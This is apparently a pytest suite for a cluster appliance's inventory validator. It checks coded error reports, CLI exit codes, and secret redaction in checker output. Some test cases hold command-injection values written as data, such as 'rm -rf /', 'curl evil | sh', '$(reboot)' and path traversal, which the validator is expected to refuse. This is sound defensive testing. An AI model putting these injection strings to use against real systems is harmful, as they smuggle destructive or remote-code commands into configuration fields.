"""Inventory validation: every problem found in one run, each coded, with path, value and fix."""
from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from appliance.inventory.load import load_site, read_inventory
from appliance.core.reports import CATALOGUE, ExitCode, Report, ReportError, Severity
from tests.conftest import EXAMPLE, TEST_SECRETS, example_text, load_test_site


def codes_and_paths(path: Path) -> set[tuple[str, str]]:
    inventory, reports = read_inventory(path)
    return {(r.code, r.path) for r in reports if r.severity is Severity.ERROR}


def replace(text: str, old: str, new: str, count: int = 1) -> str:
    assert old in text, old
    return text.replace(old, new, count)


def test_example_inventory_is_valid_and_follows_the_seed():
    site = load_test_site()
    inv = site.inventory
    assert [n.name for n in inv.nodes] == ["cloud-cc01", "cloud-cc02"]
    assert (inv.drbd.cloud.resource, inv.drbd.vmdata.resource) == ("one-disk", "data-disk")
    assert inv.fencing.enabled and len(inv.fencing.devices) == 2
    assert [inv.server_id(n) for n in inv.nodes] == [10, 20]
    assert [inv.auto_increment_offset(n) for n in inv.nodes] == [1, 2]
    assert site.warnings == ()


@pytest.mark.parametrize("old,new,code,path", [
    ('san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"', "INVENTORY_INVALID_ADDRESS", "nodes[1].san_ip"),
    ('name = "cloud-cc02"', 'name = "cloud-cc01"', "INVENTORY_DUPLICATE", "nodes[1].name"),
    ('name = "cloud-cc02"', 'name = "cc02; rm -rf /"', "INVENTORY_INVALID_NAME", "nodes[1].name"),
    ('name = "cloud-cc02"', 'name = "cloud-cc02\\nStrictHostKeyChecking no"', "INVENTORY_INVALID_NAME",
     "nodes[1].name"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/cloud/one\\n/etc"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/$(reboot)"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('mount = "/srv/cloud/one"', 'mount = "/srv/../etc"', "INVENTORY_INVALID_PATH", "filesystem.mount"),
    ('lan_interface = "eth2"', 'lan_interface = "eth2`id`"', "INVENTORY_INVALID_INTERFACE", "nodes[0].lan_interface"),
    ('san_vip = "10.0.0.10"', 'san_vip = "10.9.9.9"', "INVENTORY_ADDRESS_OUTSIDE_NETWORK", "network.san_vip"),
    ('port = 7790', 'port = 7789', "INVENTORY_PORT_CONFLICT", "drbd.vmdata.port"),
    ('token = 3000', 'token = 10', "INVENTORY_OUT_OF_RANGE", "corosync.token"),
    ('token = 3000', 'token = "3000"', "INVENTORY_WRONG_TYPE", "corosync.token"),
    ('stack = "corosync"', 'stack = "pacemaker-on-heartbeat"', "INVENTORY_INVALID_CHOICE", "cluster.stack"),
    ('stickiness = 1000', 'stickyness = 1000', "INVENTORY_UNKNOWN_FIELD", "cluster.stickyness"),
    ('node = "cloud-cc02"\nparams', 'node = "cloud-cc03"\nparams', "INVENTORY_UNKNOWN_NODE",
     "fencing.devices[1].node"),
    ('lanplus = true }\n\n[[hosts]]', 'lanplus = true, password = "hunter2" }\n\n[[hosts]]',
     "INVENTORY_UNKNOWN_FIELD", "fencing.devices[1].params.password"),
    ('tls = { generate = true }', 'tls = { certificate = "/etc/ssl/certs/ssl-cert-snakeoil.pem", '
     'key = "/etc/ssl/private/ssl-cert-snakeoil.key" }', "INVENTORY_SNAKEOIL_CERTIFICATE", "proxy.tls.certificate"),
    ('tls = { generate = true }', 'tls = { certificate = "/etc/ssl/site.pem" }', "INVENTORY_TLS_INCOMPLETE",
     "proxy.tls"),
    ('export = "/srv/cloud/one"', 'export = "/srv/cloud"', "INVENTORY_INVALID_PATH", "nfs.export"),
    ('address = "10.0.0.103"', 'address = "10.0.1.103"', "INVENTORY_ADDRESS_OUTSIDE_NETWORK", "hosts[2].address"),
    ('auto_increment_increment = 10', 'auto_increment_increment = 1', "INVENTORY_OUT_OF_RANGE",
     "database.auto_increment_increment"),
])
def test_bad_value_is_reported_with_code_and_path(make_inventory, old, new, code, path):
    problems = codes_and_paths(make_inventory(replace(example_text(), old, new)))
    assert (code, path) in problems


def test_missing_required_field_is_named(make_inventory):
    text = replace(example_text(), 'lan_ip = "192.168.10.12"\n', "")
    assert ("INVENTORY_MISSING_FIELD", "nodes[1].lan_ip") in codes_and_paths(make_inventory(text))


def test_every_problem_is_reported_in_one_run(make_inventory):
    text = replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"')
    text = replace(text, 'mount = "/srv/cloud/one"', 'mount = "relative/path"')
    text = replace(text, 'token = 3000', 'token = 5')
    problems = codes_and_paths(make_inventory(text))
    assert {("INVENTORY_INVALID_ADDRESS", "nodes[1].san_ip"), ("INVENTORY_INVALID_PATH", "filesystem.mount"),
            ("INVENTORY_OUT_OF_RANGE", "corosync.token")} <= problems


def test_cross_field_problems_are_all_reported_together(make_inventory):
    text = replace(example_text(), 'name = "cloud-cc02"', 'name = "cloud-cc01"')
    text = replace(text, 'port = 7790', 'port = 7789')
    text = replace(text, 'san_vip = "10.0.0.10"', 'san_vip = "10.0.0.1"')
    problems = codes_and_paths(make_inventory(text))
    assert {("INVENTORY_DUPLICATE", "nodes[1].name"), ("INVENTORY_PORT_CONFLICT", "drbd.vmdata.port")} <= problems
    assert len([p for p in problems if p[0] == "INVENTORY_DUPLICATE"]) >= 2


def test_three_nodes_are_refused(make_inventory):
    text = example_text()
    start = text.index("[[nodes]]", text.index("[[nodes]]") + 1)
    block = text[start:text.index("[corosync]")]
    text = text.replace(block, block + block.replace("cloud-cc02", "cloud-cc03").replace(".12", ".13")
                        .replace("10.0.0.2", "10.0.0.3"))
    assert ("INVENTORY_NODE_COUNT", "nodes") in codes_and_paths(make_inventory(text))


def test_fencing_without_a_device_per_node_is_refused(make_inventory):
    text = example_text()
    second = text.rindex("[[fencing.devices]]")
    text = text[:second] + text[text.index("[[hosts]]"):]
    assert ("INVENTORY_FENCING_INCOMPLETE", "fencing.devices") in codes_and_paths(make_inventory(text))


def test_fencing_disabled_is_a_loud_warning_not_a_silent_default(make_inventory):
    text = replace(example_text(), "enabled = true", "enabled = false")
    inventory, reports = read_inventory(make_inventory(text))
    assert inventory is not None
    assert [(r.code, r.severity) for r in reports] == [("INVENTORY_FENCING_DISABLED", Severity.WARNING)]


def test_not_toml_at_all(make_inventory):
    inventory, reports = read_inventory(make_inventory("this is [not toml"))
    assert inventory is None and [r.code for r in reports] == ["INVENTORY_NOT_TOML"]


def test_binary_garbage_is_reported_not_raised(tmp_path):
    path = tmp_path / "garbage.toml"
    path.write_bytes(b"\xff\xfe\x00\x01" * 10)
    inventory, reports = read_inventory(path)
    assert inventory is None and reports[0].code == "INVENTORY_NOT_TOML"


def test_missing_file(tmp_path):
    inventory, reports = read_inventory(tmp_path / "nope.toml")
    assert [r.code for r in reports] == ["INVENTORY_UNREADABLE"]


def test_every_code_has_a_fix_and_an_exit_code():
    for code, entry in CATALOGUE.items():
        assert isinstance(entry.exit, ExitCode) and entry.fix, code
        assert entry.http is None or 400 <= entry.http <= 599, code


# The CLI end to end: exit code, coded JSON, no traceback, nothing contacted.
def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    base = {k: v for k, v in os.environ.items() if not k.startswith("APPLIANCE_SECRET_")}
    return subprocess.run([sys.executable, "-m", "appliance", *args], capture_output=True, text=True,
                          env={**base, **(env or {})})


@pytest.mark.parametrize("edit", [
    lambda t: replace(t, 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"'),
    lambda t: replace(t, 'name = "cloud-cc02"', 'name = "cloud-cc01"'),
    lambda t: replace(t, 'name = "cloud-cc02"', 'name = "x && curl evil | sh"'),
    lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/srv/cloud/one\\nrm -rf /"'),
    lambda t: replace(t, 'lan_ip = "192.168.10.12"\n', ""),
    lambda t: "<?xml version='1.0'?><inventory/>",
    lambda t: "",
])
def test_hostile_inventory_exits_non_zero_with_coded_json_and_no_traceback(make_inventory, edit):
    path = make_inventory(edit(example_text()))
    result = run_cli("install", "--check", "-i", str(path), "--json")
    assert result.returncode == ExitCode.INVALID_INPUT
    assert "Traceback" not in result.stderr + result.stdout
    document = json.loads(result.stdout)
    assert document["ok"] is False
    assert document["reports"] and all(r["code"] in CATALOGUE and r["fix"] for r in document["reports"])


def test_hostile_inventory_text_output_names_path_and_fix(make_inventory):
    path = make_inventory(replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.300"'))
    result = run_cli("install", "--check", "-i", str(path))
    assert result.returncode == ExitCode.INVALID_INPUT
    assert "nodes[1].san_ip" in result.stderr and "10.0.0.300" in result.stderr and "fix:" in result.stderr
    assert "Traceback" not in result.stderr


def test_secrets_file_readable_by_others_is_refused(make_inventory, tmp_path):
    path = make_inventory()
    secrets = tmp_path / "two-node.secrets.toml"
    secrets.write_text('hacluster_password = "x"\n')
    secrets.chmod(0o644)
    result = run_cli("install", "--check", "-i", str(path), "--json")
    assert result.returncode == ExitCode.INVALID_INPUT
    codes = [r["code"] for r in json.loads(result.stdout)["reports"]]
    assert codes == ["SECRETS_PERMISSIONS"]


def test_invalid_inventory_contacts_nothing(make_inventory, no_contact):
    path = make_inventory(replace(example_text(), 'san_ip = "10.0.0.2"', 'san_ip = "999.0.0.2"'))
    with pytest.raises(ReportError):
        load_site(path, require_secrets=False)


def test_unknown_flag_is_a_usage_error():
    result = run_cli("install", "--chekc", "-i", str(EXAMPLE))
    assert result.returncode == ExitCode.USAGE


# Issue 10, part 6: inventories the fuzzer found accepted though invalid. Each is refused at validate,
# coded, with the field named.
def with_manager(text: str, line: str) -> str:
    return replace(text, "[manager]\nport = 2633\n", f"[manager]\nport = 2633\n{line}\n")


def with_tls(text: str, tls: str) -> str:
    return replace(text, "tls = { generate = true }", f"tls = {{ {tls} }}")


@pytest.mark.parametrize("edit,code,path", [
    # rendered and operator paths: no collision, rendered files only inside the appliance's directories
    (lambda t: with_manager(t, 'config = "/etc/passwd"'), "INVENTORY_PATH_OUTSIDE_APPLIANCE", "manager.config"),
    (lambda t: with_manager(t, 'config = "/etc/hosts"'), "INVENTORY_PATH_RESERVED", "manager.config"),
    (lambda t: with_manager(t, 'config = "/etc/appliance/proxy/lighttpd.conf"'), "INVENTORY_PATH_RESERVED",
     "manager.config"),
    (lambda t: with_manager(t, 'config = "/var/lib/appliance/cib.xml"'), "INVENTORY_PATH_RESERVED", "manager.config"),
    (lambda t: with_manager(t, 'config = "/etc/appliance"'), "INVENTORY_PATH_RESERVED", "manager.config"),
    (lambda t: with_manager(t, 'config = "/srv/cloud/one/manager.toml"'), "INVENTORY_PATH_CONFLICT",
     "manager.config"),
    (lambda t: with_manager(t, 'state_dir = "/var/lib/appliance"'), "INVENTORY_PATH_RESERVED", "manager.state_dir"),
    (lambda t: with_tls(t, 'certificate = "/etc/ssl/site.pem", key = "/etc/corosync/authkey"'),
     "INVENTORY_PATH_RESERVED", "proxy.tls.key"),
    (lambda t: with_tls(with_manager(t, 'config = "/etc/appliance/site.pem"'),
                        'certificate = "/etc/appliance/site.pem", key = "/etc/ssl/site.key"'),
     "INVENTORY_PATH_CONFLICT", "proxy.tls.certificate"),
    (lambda t: with_tls(t, 'certificate = "/srv/cloud/one", key = "/etc/ssl/site.key"'),
     "INVENTORY_PATH_CONFLICT", "proxy.tls.certificate"),
    (lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/srv//cloud/one"'), "INVENTORY_INVALID_PATH",
     "filesystem.mount"),
    # mount points and the directories appliance creates: never a system directory
    (lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/"'), "INVENTORY_SYSTEM_DIRECTORY",
     "filesystem.mount"),
    (lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/var/lib"'), "INVENTORY_SYSTEM_DIRECTORY",
     "filesystem.mount"),
    (lambda t: replace(t, 'mount = "/srv/cloud/one"', 'mount = "/etc/cloud"'), "INVENTORY_SYSTEM_DIRECTORY",
     "filesystem.mount"),
    (lambda t: replace(replace(t, 'mount = "/srv/cloud/one"', 'mount = "/srv"'), 'export = "/srv/cloud/one"',
                       'export = "/srv"'), "INVENTORY_SYSTEM_DIRECTORY", "nfs.export"),
    (lambda t: with_manager(t, 'state_dir = "/etc"'), "INVENTORY_SYSTEM_DIRECTORY", "manager.state_dir"),
    # ports: distinct on each node, both fields named
    (lambda t: replace(t, "port = 2633", "port = 22"), "INVENTORY_PORT_CONFLICT", "nodes[0].ssh.port"),
    (lambda t: replace(t, "port = 2633", "port = 5405"), "INVENTORY_PORT_CONFLICT", "manager.port"),
    (lambda t: replace(t, "port = 443", "port = 80"), "INVENTORY_PORT_CONFLICT", "proxy.port"),
    (lambda t: replace(t, 'name = "appliance"\nuser', 'name = "appliance"\nport = 443\nuser'),
     "INVENTORY_PORT_CONFLICT", "proxy.port"),
    (lambda t: replace(t, "port = 7789", "port = 3306"), "INVENTORY_PORT_CONFLICT", "drbd.cloud.port"),
    # LVM must never see a DRBD backing disk, nor a DRBD device besides its own
    (lambda t: replace(t, 'volume_group = "one-data"', 'volume_group = "one-data"\nextra_accept = ["/dev/sda5"]'),
     "INVENTORY_LVM_FILTER", "lvm.extra_accept[0]"),
    (lambda t: replace(t, 'volume_group = "one-data"', 'volume_group = "one-data"\nextra_accept = ["/dev/sda3"]'),
     "INVENTORY_LVM_FILTER", "lvm.extra_accept[0]"),
    (lambda t: replace(t, 'volume_group = "one-data"', 'volume_group = "one-data"\nextra_accept = ["/dev/drbd1"]'),
     "INVENTORY_LVM_FILTER", "lvm.extra_accept[0]"),
    # DRBD's resync-rate range: 1K..4G per second
    (lambda t: replace(t, 'resync_rate = "100M"', 'resync_rate = "999999999999T"'), "INVENTORY_OUT_OF_RANGE",
     "drbd.resync_rate"),
    (lambda t: replace(t, 'resync_rate = "100M"', 'resync_rate = "5G"'), "INVENTORY_OUT_OF_RANGE", "drbd.resync_rate"),
    (lambda t: replace(t, 'resync_rate = "100M"', 'resync_rate = "0"'), "INVENTORY_OUT_OF_RANGE", "drbd.resync_rate"),
    # fence devices: known agents, and only the parameters the agent takes
    (lambda t: replace(t, "lanplus = true }\n\n[[hosts]]", "lanplsu = true }\n\n[[hosts]]"),
     "INVENTORY_UNKNOWN_FIELD", "fencing.devices[1].params.lanplsu"),
    (lambda t: replace(t, 'agent = "fence_ipmilan"', 'agent = "fence_ipmilann"'), "INVENTORY_INVALID_CHOICE",
     "fencing.devices[0].agent"),
    (lambda t: replace(t, 'agent = "fence_ipmilan"', 'agent = "fence_lab"'), "INVENTORY_INVALID_CHOICE",
     "fencing.devices[0].agent"),
    (lambda t: replace(t, 'ip = "192.168.10.21"', 'ip = "192.168.10.11"'), "INVENTORY_DUPLICATE",
     "fencing.devices[0].params.ip"),
    # more found by reading the renderers
    (lambda t: replace(t, 'name = "cloud-cc"', 'name = "Cloud_CC"'), "INVENTORY_INVALID_NAME", "cluster.name"),
    (lambda t: replace(t, 'lan_interface = "eth2"', 'lan_interface = "eth2:1"'), "INVENTORY_INVALID_INTERFACE",
     "nodes[0].lan_interface"),
    (lambda t: replace(t, 'cloud = "/dev/sda5"', 'cloud = "/dev/drbd1"'), "INVENTORY_NOT_A_DEVICE",
     "nodes[0].disks.cloud"),
    (lambda t: replace(t, 'vmdata = "/dev/sda6"', 'vmdata = "/srv/vmdata.img"'), "INVENTORY_NOT_A_DEVICE",
     "nodes[0].disks.vmdata"),
    (lambda t: with_manager(t, 'user = "Appliance.Svc"'), "INVENTORY_INVALID_USER", "manager.user"),
    (lambda t: replace(t, 'options = ["rw"', 'clients = []\noptions = ["rw"'), "INVENTORY_OUT_OF_RANGE",
     "nfs.clients"),
    (lambda t: replace(t, 'san_domain = "san.local"', 'san_domain = "lan.local"'), "INVENTORY_DUPLICATE",
     "network.san_domain"),
    (lambda t: replace(t, 'name = "cloud-01"', 'name = "cloud-cc"'), "INVENTORY_DUPLICATE", "hosts[0].name"),
    (lambda t: replace(t, 'address = "10.0.0.103"', 'address = "10.0.0.255"'), "INVENTORY_INVALID_ADDRESS",
     "hosts[2].address"),
    (lambda t: replace(t, 'ssh = { user = "root", port = 22 }', 'ssh = { user = "root", port = 22, '
                       'address = "192.168.10.10" }'), "INVENTORY_DUPLICATE", "nodes[0].ssh.address"),
    # already refused before part 6 (kept here so they stay refused)
    (lambda t: replace(t, 'lan_ip = "192.168.10.11"', 'lan_ip = "192.168.10.10"'), "INVENTORY_DUPLICATE",
     "nodes[0].lan_ip"),
    (lambda t: replace(t, "minor = 2", "minor = 1"), "INVENTORY_DUPLICATE", "drbd.vmdata.minor"),
    (lambda t: replace(t, 'metadata = "/dev/sda3"', 'metadata = "/dev/sda5"'), "INVENTORY_DUPLICATE",
     "nodes[0].disks.cloud"),
    (lambda t: replace(t, 'san_ip = "10.0.0.2"', 'san_ip = "10.0.0.1"'), "INVENTORY_DUPLICATE", "nodes[1].san_ip"),
    (lambda t: replace(t, 'lan_interface = "eth2"', 'lan_interface = "eth2-a-very-long"'),
     "INVENTORY_INVALID_INTERFACE", "nodes[0].lan_interface"),
])
def test_invalid_inventory_found_by_fuzzing_is_refused(make_inventory, edit, code, path):
    inventory_path = make_inventory(edit(example_text()))
    assert (code, path) in codes_and_paths(inventory_path)
    with pytest.raises(ReportError) as refused:
        load_test_site(inventory_path)
    report = next(r for r in refused.value.reports if (r.code, r.path) == (code, path))
    assert report.code in CATALOGUE and report.fix and report.value is not None


def test_port_conflict_names_both_fields(make_inventory):
    text = replace(example_text(), 'stack = "corosync"', 'stack = "heartbeat"')
    text = replace(text, "[corosync]", "[heartbeat]\nudpport = 2633\n\n[corosync]")
    inventory, reports = read_inventory(make_inventory(text))
    [report] = [r for r in reports if r.code == "INVENTORY_PORT_CONFLICT"]
    assert report.path == "manager.port" and "heartbeat.udpport" in report.message and report.value == 2633


def test_unknown_fence_parameter_fix_names_the_allowed_ones(make_inventory):
    text = replace(example_text(), "lanplus = true }\n\n[[hosts]]", "lanplsu = true }\n\n[[hosts]]")
    _, reports = read_inventory(make_inventory(text))
    [report] = [r for r in reports if r.path == "fencing.devices[1].params.lanplsu"]
    assert "did you mean 'lanplus'" in report.fix and "username" in report.fix and "ip" in report.fix


def test_valid_variants_stay_valid(make_inventory):
    """What the new rules must not refuse: the defaults, a PEM with key and certificate, a mount under /srv."""
    text = with_tls(example_text(), 'certificate = "/etc/ssl/private/site.pem", key = "/etc/ssl/private/site.pem"')
    text = with_manager(text, 'config = "/var/lib/appliance/manager.toml"')
    text = replace(text, 'resync_rate = "100M"', 'resync_rate = "4G"')
    text = replace(text, 'volume_group = "one-data"', 'volume_group = "one-data"\nextra_accept = ["/dev/sdb2"]')
    inventory, reports = read_inventory(make_inventory(text))
    assert inventory is not None and not [r for r in reports if r.severity is Severity.ERROR], reports


def test_drbd_shared_secret_longer_than_drbd_takes_is_refused_without_echoing_it(make_inventory):
    secret = "DrbdSecret-" + "x7Q2" * 13 + "0"  # 64 characters: one more than DRBD's limit
    assert len(secret) == 64
    with pytest.raises(ReportError) as refused:
        load_site(EXAMPLE, Path("/nonexistent/secrets.toml"),
                  env={**TEST_SECRETS, "APPLIANCE_SECRET_DRBD_SHARED_SECRET": secret})
    assert [(r.code, r.path) for r in refused.value.reports] == [("SECRETS_INVALID", "drbd_shared_secret")]
    shown = str(refused.value) + json.dumps([r.as_dict() for r in refused.value.reports]) + \
        "".join(r.render() for r in refused.value.reports)
    assert secret[:12] not in shown and "63" in shown
    load_site(EXAMPLE, Path("/nonexistent/secrets.toml"),
              env={**TEST_SECRETS, "APPLIANCE_SECRET_DRBD_SHARED_SECRET": secret[:63]})


def test_misspelt_key_in_a_fence_secrets_table_is_refused(tmp_path):
    secrets = tmp_path / "secrets.toml"
    secrets.write_text('[fence.ipmi-cc01]\npasword = "Typo-Password-1"\n')
    secrets.chmod(0o600)
    env = {k: v for k, v in TEST_SECRETS.items() if "FENCE_IPMI_CC01" not in k}
    with pytest.raises(ReportError) as refused:
        load_site(EXAMPLE, secrets, env=env)
    assert ("SECRETS_UNKNOWN_FIELD", "fence.ipmi-cc01.pasword") in {(r.code, r.path) for r in refused.value.reports}
    assert "Typo-Password-1" not in str([r.as_dict() for r in refused.value.reports])


# The static lists in inventory/checks.py against what the roles really render (inventory cannot import
# the roles: it sits below them).
def test_every_rendered_path_is_reserved_for_the_roles(make_inventory):
    from appliance.lab.lab import inventory_text
    from appliance.inventory.checks import APPLIANCE_DIRS, RESERVED_PATHS, within
    from appliance.roles import layout
    from appliance.roles.registry import plan_site

    heartbeat = replace(example_text(), 'stack = "corosync"', 'stack = "heartbeat"')
    variants = {"example": example_text(), "heartbeat": heartbeat, "lab": inventory_text(Path("/tmp/lab"))}
    rendered = set()
    for name, text in variants.items():
        site = load_test_site(make_inventory(text, f"{name}.toml"))
        for plan in plan_site(site):
            for node in plan.nodes:
                rendered |= {f.path for f in node.files if f.path != site.inventory.manager.config}
    assert "/etc/ha.d/ha.cf" in rendered and "/etc/appliance/nfs/ganesha.conf" in rendered
    uncovered = sorted(p for p in rendered if not any(within(p, r) for r in RESERVED_PATHS))
    assert uncovered == [], "add these to RESERVED_PATHS in inventory/checks.py"
    dirs = {layout.ETC, layout.LIB, layout.LOG_DIR, layout.RUN_DIR, layout.STATE, layout.INSTALL_PREFIX,
            layout.RELEASES_DIR, layout.WHEEL_DIR}
    assert set(APPLIANCE_DIRS) == dirs
    for path in (layout.PROXY_CONFIG, layout.GENERATED_CERTIFICATE, layout.GENERATED_KEY, layout.CIB_FILE,
                 layout.NFS_CONFIG, layout.AOE_WRAPPER, layout.MARIADB_SUPERVISOR, layout.OCF_AGENT,
                 layout.OCF_PROXY_AGENT, layout.NFS_RECOVERY, layout.LAB_AOE_FILE, layout.PROXY_PIDFILE):
        assert any(within(path, r) for r in RESERVED_PATHS), path


def test_fence_lab_parameters_match_the_lab_agent():
    from appliance.inventory.types import FENCE_AGENT_PARAMETERS, PACEMAKER_FENCE_PARAMETERS
    from appliance.lab.fence import PARAMETERS

    assert FENCE_AGENT_PARAMETERS["fence_lab"] - PACEMAKER_FENCE_PARAMETERS == \
        {name for name, *_ in PARAMETERS} - {"action"}


def test_fence_parameters_are_the_installed_agents_own():
    """Where fence-agents is installed, every parameter allowed is one the agent's metadata lists."""
    import xml.etree.ElementTree as ET

    from appliance.inventory.types import FENCE_AGENT_PARAMETERS, PACEMAKER_FENCE_PARAMETERS

    from tests.conftest import require_tool

    require_tool("/usr/sbin/fence_ipmilan")  # fence-agents: make deps installs it; missing fails in CI
    checked = 0
    for agent, allowed in FENCE_AGENT_PARAMETERS.items():
        binary = Path("/usr/sbin") / agent
        if agent == "fence_lab" or not binary.exists():
            continue
        metadata = subprocess.run([str(binary), "-o", "metadata"], capture_output=True, text=True, timeout=30)
        names = {p.get("name") for p in ET.fromstring(metadata.stdout).iter("parameter")}
        assert allowed - PACEMAKER_FENCE_PARAMETERS <= names, (agent, allowed - PACEMAKER_FENCE_PARAMETERS - names)
        checked += 1
    assert checked


# Checkers' output: a checker may quote the file it rejects, secrets included.
LONG_SECRET = "DrbdSecretThatIsLong-" + "k3Vq" * 10 + "Z"  # 62 characters


class EchoingRunner:
    """A checker that rejects every file it is given and prints it back, with the first 20 characters of
    the secret on a line of their own (what drbdadm did with a 64-character shared-secret)."""

    host = "local"

    def __init__(self, fail_with: Exception | None = None):
        self.files: dict[str, bytes] = {}
        self.fail_with = fail_with

    def put(self, path, content, mode):
        self.files[path] = content

    def read(self, path):
        return self.files.get(path)

    def run(self, argv, *, stdin=None, check=True, timeout=None, env=None):
        from appliance.core.runner import CommandFailed, Result

        if self.fail_with is not None:
            raise self.fail_with
        echoed = b"\n".join(self.files[a] for a in map(str, argv) if a in self.files).decode(errors="replace")
        if LONG_SECRET in echoed:
            echoed += f"\nnear '{LONG_SECRET[:20]}'"
        result = Result(" ".join(map(str, argv)), 1, "", f"{echoed}\nparse error", "local")
        if check:
            raise CommandFailed(result)
        return result


def drbd_node_plan(secrets_env: dict[str, str]):
    from appliance.roles.registry import plan_site

    site = load_site(EXAMPLE, Path("/nonexistent/secrets.toml"),
                     env={**secrets_env, "APPLIANCE_SECRET_DRBD_SHARED_SECRET": LONG_SECRET})
    plan = next(p for p in plan_site(site) if p.role == "drbd")
    return site, plan.nodes[0]


def leaked(text: str) -> bool:
    return any(fragment in text for fragment in (LONG_SECRET, LONG_SECRET[:12], LONG_SECRET[20:40]))


@pytest.mark.parametrize("fail_with", [
    None,
    "command failed",
    "crash",
])
def test_checker_output_is_redacted_on_every_path(tmp_path, monkeypatch, fail_with):
    from appliance import checkers
    from appliance.core.runner import CommandFailed, Result
    from appliance.inventory.secrets import Redactor

    monkeypatch.setattr(checkers, "missing_tools", lambda kind: [])
    error = {None: None,
             "command failed": CommandFailed(Result("drbdadm dump", 10, "", f"bad 'shared-secret \"{LONG_SECRET}\"'",
                                                    "local")),
             "crash": ValueError(f"could not parse {LONG_SECRET[:30]}")}[fail_with]
    site, node = drbd_node_plan(TEST_SECRETS)
    run = checkers.check_node(EchoingRunner(error), node, tmp_path, redactor=Redactor(site.secrets))
    assert run.outcomes and not any(o.ok for o in run.outcomes)
    for outcome in run.outcomes:
        report = Report("CHECKER_REJECTED", f"{outcome.tool} rejected {outcome.path}: {outcome.detail}",
                        host=outcome.node, value=outcome.path)
        shown = report.render() + json.dumps(report.as_dict()) + str(ReportError([report]))
        assert not leaked(shown), shown
    assert any("<secret:drbd_shared_secret>" in o.detail for o in run.outcomes)


def test_checker_output_without_a_redactor_is_withheld_not_shown(tmp_path, monkeypatch):
    from appliance import checkers

    monkeypatch.setattr(checkers, "missing_tools", lambda kind: [])
    _, node = drbd_node_plan(TEST_SECRETS)
    run = checkers.check_node(EchoingRunner(), node, tmp_path)
    assert run.outcomes and all(o.detail == checkers.WITHHELD for o in run.outcomes)


def test_render_validate_never_reports_a_secret_a_checker_echoed(tmp_path, monkeypatch):
    """The whole path of `render --validate`: checkers run, reports built, nothing of the secret shown."""
    from appliance import actions, checkers

    monkeypatch.setattr(checkers, "missing_tools", lambda kind: [])
    monkeypatch.setattr(actions, "LocalRunner", EchoingRunner)
    inventory = tmp_path / "site.toml"
    inventory.write_text(example_text().replace('secrets_file = "two-node.secrets.toml"\n', ""))
    monkeypatch.setattr(actions, "load_site", lambda path, secrets, **kw: load_site(
        path, secrets, env={**TEST_SECRETS, "APPLIANCE_SECRET_DRBD_SHARED_SECRET": LONG_SECRET}, **kw))
    with pytest.raises(ReportError) as rejected:
        actions.render_site(inventory, None, tmp_path / "out", validate=True, force=False)
    shown = str(rejected.value) + "".join(r.render() + json.dumps(r.as_dict()) for r in rejected.value.reports)
    assert "CHECKER_REJECTED" in shown and not leaked(shown)
